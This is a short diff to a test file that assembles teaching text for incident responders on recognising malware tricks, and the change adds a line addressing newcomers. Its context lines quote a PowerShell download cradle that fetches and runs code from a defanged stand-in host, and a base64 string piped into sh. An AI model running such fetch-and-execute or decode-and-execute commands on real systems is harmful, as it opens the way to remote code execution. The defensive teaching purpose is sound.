@@ -12,7 +12,7 @@ describe('skills of responders and administrators', () => {
         '## Tricks of malware to recognise',
         '### Download cradle',
         fence('', "IEX (New-Object Net.WebClient).DownloadString('hxxp://bad[.]example/a')"),
-        'Addresses stay defanged.',
+        'Addresses stay defanged. For newcomers to incident response.',
         '### One-liner',
         fence('', 'echo aGVsbG8gd29ybGQK | base64 -d | sh'),
         'Put `cat` in the place of `sh` to see what would be run.',
